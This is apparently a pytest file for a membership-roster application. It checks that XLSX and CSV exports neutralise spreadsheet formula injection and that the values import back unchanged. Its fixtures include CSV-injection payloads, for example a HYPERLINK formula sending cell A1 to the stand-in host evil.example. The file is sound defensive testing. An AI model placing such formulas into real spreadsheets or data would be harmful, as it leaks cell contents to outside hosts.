"""Exports neutralise formulas: a value beginning with =, +, -, @, a tab or a carriage return comes out as text in
every XLSX (a text cell with Excel's quote prefix) and CSV (a leading apostrophe), and imports back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from admission.core.spreadsheets import csv_row, csv_value_read, looks_like_formula, workbook_bytes
from admission.imports.engine import read_rows
from admission.imports.exports import export_file, roster_rows
from admission.party.models.people import Membership
from tests.factories import MembershipFactory, PersonFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84912345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1",
]
HARMLESS = ["Nguyễn Văn A", "x=1", "a-b", "", "'quoted"]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_text_beginning_like_a_formula_is_recognised(value: str) -> None:
    assert looks_like_formula(value)


@pytest.mark.parametrize("value", [*HARMLESS, None, -5, 3.5, 0])
def test_ordinary_text_and_numbers_are_left_alone(value: object) -> None:
    assert not looks_like_formula(value)
    assert csv_row([value]) == [value]


def test_an_xlsx_cell_that_would_be_a_formula_is_written_as_text_with_its_value_unchanged() -> None:
    book = Workbook()
    book.active.append([*ATTACKS, "Nguyễn Văn A", -5])
    cells = list(load_workbook(io.BytesIO(workbook_bytes(book))).active[1])
    assert [c.value for c in cells] == [*ATTACKS, "Nguyễn Văn A", -5]
    assert [c.data_type for c in cells] == ["s"] * (len(ATTACKS) + 1) + ["n"]
    assert all(c.quotePrefix for c in cells[: len(ATTACKS)])
    assert not cells[len(ATTACKS)].quotePrefix


def test_every_sheet_of_a_workbook_is_neutralised() -> None:
    book = Workbook()
    book.create_sheet("Second").append(["=1+1"])
    second = load_workbook(io.BytesIO(workbook_bytes(book)))["Second"]
    assert (second["A1"].value, second["A1"].data_type) == ("=1+1", "s")


def test_a_csv_value_gets_an_apostrophe_that_reading_removes_again() -> None:
    assert csv_row(ATTACKS) == ["'" + value for value in ATTACKS]
    assert [csv_value_read(v) for v in csv_row([*ATTACKS, *HARMLESS])] == [*ATTACKS, *HARMLESS]


@pytest.fixture
def poisoned(world) -> Membership:
    person = PersonFactory(full_name='=HYPERLINK("http://evil.example","Xem")', phone="+84912345678")
    return MembershipFactory(person=person, cell=world.village_cell)


def test_the_roster_export_writes_a_formula_name_as_text_in_xlsx(poisoned: Membership) -> None:
    data = export_file("members", "xlsx", roster_rows(Membership.objects.filter(pk=poisoned.pk)))
    sheet = load_workbook(io.BytesIO(data)).active
    name, phone = sheet["B2"], sheet["M2"]
    assert (name.value, name.data_type, name.quotePrefix) == (poisoned.person.full_name, "s", True)
    assert (phone.value, phone.data_type) == ("+84912345678", "s")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_the_roster_export_starts_a_formula_name_with_an_apostrophe_in_csv(poisoned: Membership) -> None:
    data = export_file("members", "csv", roster_rows(Membership.objects.filter(pk=poisoned.pk)))
    _header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert row[1] == "'" + poisoned.person.full_name
    assert row[12] == "'+84912345678"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_exported_roster_reads_back_with_the_values_it_had(poisoned: Membership, fmt: str) -> None:
    data = export_file("members", fmt, roster_rows(Membership.objects.filter(pk=poisoned.pk)))
    _header, row = read_rows(data, f"roster.{fmt}")
    assert row[1] == poisoned.person.full_name
    assert row[12] == "+84912345678"
